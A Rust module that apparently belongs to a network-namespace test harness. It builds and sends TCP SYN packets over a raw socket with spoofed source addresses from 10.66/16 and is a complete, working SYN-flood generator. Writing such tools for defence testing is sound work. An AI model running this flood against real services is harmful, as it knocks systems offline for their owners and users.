//! SYNs that nobody means, one after the other until it is enough.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::AsRawFd as _,
    panic::resume_unwind,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
};

use anyhow::{Context as _, Result};
use etherparse::PacketBuilder;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

use crate::Namespace;

/// The network (/16) that the SYNs seem to come from, whose hosts never answer.
const NOBODY: [u8; 2] = [10, 66];

/// SYNs from one host after the other, none of which knows of them.
#[derive(Debug, Clone, Copy)]
pub struct SynFlood {
    /// The service.
    pub target: SocketAddrV4,
    /// How many.
    pub count: u64,
}

/// One under way.
pub struct Unending {
    sent: Arc<AtomicU64>,
    over: Arc<AtomicBool>,
    thread: JoinHandle<Result<()>>,
}

impl SynFlood {
    /// Begins to send from `namespace`, as fast as that goes.
    #[must_use]
    pub fn start(self, namespace: &Namespace) -> Unending {
        let (sent, over) = (Arc::<AtomicU64>::default(), Arc::<AtomicBool>::default());
        let thread = namespace.spawn({
            let (sent, over) = (Arc::clone(&sent), Arc::clone(&over));
            move || self.send(&sent, &over)
        });
        Unending { sent, over, thread }
    }

    fn send(self, sent: &AtomicU64, over: &AtomicBool) -> Result<()> {
        // A raw socket of this protocol takes packets with their IP headers (raw(7)).
        let (kind, protocol) = (SockType::Raw, SockProtocol::Raw);
        let socket = socket(AddressFamily::Inet, kind, SockFlag::SOCK_CLOEXEC, protocol)
            .context("cannot open a raw socket")?;
        let target = SockaddrIn::from(self.target);
        for number in 0..self.count {
            if over.load(Ordering::Relaxed) {
                break;
            }
            let packet = self.syn(number);
            sendto(socket.as_raw_fd(), &packet, &target, MsgFlags::empty()).context("cannot send a SYN")?;
            sent.fetch_add(1, Ordering::Relaxed);
        }
        Ok(())
    }

    /// The SYN of this number, which another one is like after 2³² only.
    fn syn(self, number: u64) -> Vec<u8> {
        let [.., port_high, port_low, third, fourth] = number.to_be_bytes();
        let [first, second] = NOBODY;
        let source = Ipv4Addr::new(first, second, third, fourth).octets();
        let port = 1024 | u16::from_be_bytes([port_high, port_low]);
        let builder = PacketBuilder::ipv4(source, self.target.ip().octets(), 64);
        let syn = builder
            .tcp(port, self.target.port(), (number & 0xffff_ffff) as u32, 0xfaf0)
            .syn();
        let mut packet = Vec::with_capacity(syn.size(0));
        syn.write(&mut packet, &[]).expect("a packet fits its buffer");
        packet
    }
}

impl Unending {
    /// How many were sent so far.
    #[must_use]
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Ends it; how many were sent.
    pub fn stop(self) -> Result<u64> {
        self.over.store(true, Ordering::Relaxed);
        self.thread.join().unwrap_or_else(|panic| resume_unwind(panic))?;
        Ok(self.sent.load(Ordering::Relaxed))
    }
}
